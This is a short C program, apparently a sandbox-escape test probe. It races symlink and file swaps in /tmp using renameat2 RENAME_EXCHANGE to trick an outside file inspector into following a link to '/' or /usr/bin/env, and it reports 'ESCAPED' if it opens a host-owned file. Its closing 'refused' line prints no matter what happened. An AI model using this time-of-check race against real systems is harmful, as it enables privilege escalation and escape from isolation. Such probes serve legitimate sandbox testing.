// Tries to win a race against whoever looks at its files, by exchanging a file and a link without pause.
// Must end as finished; nobody outside looks.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(void) {
  mkdir("/tmp/folder", 0700);
  symlink("/", "/tmp/link");
  close(open("/tmp/file", O_CREAT | O_WRONLY, 0600));
  symlink("/usr/bin/env", "/tmp/other");
  int swaps = 0;
  for (clock_t start = clock(); clock() - start < CLOCKS_PER_SEC / 20; swaps++) {
    renameat2(AT_FDCWD, "/tmp/folder", AT_FDCWD, "/tmp/link", RENAME_EXCHANGE);
    renameat2(AT_FDCWD, "/tmp/file", AT_FDCWD, "/tmp/other", RENAME_EXCHANGE);
    int file = open("/tmp/file", O_WRONLY);
    struct stat about;
    if (file >= 0 && fstat(file, &about) == 0 && about.st_uid != getuid()) puts("ESCAPED: opened a file of the host");
    if (file >= 0) close(file);
  }
  printf("refused: %s after %s swaps\n", "nobody looked", swaps > 0 ? "many" : "no");
}
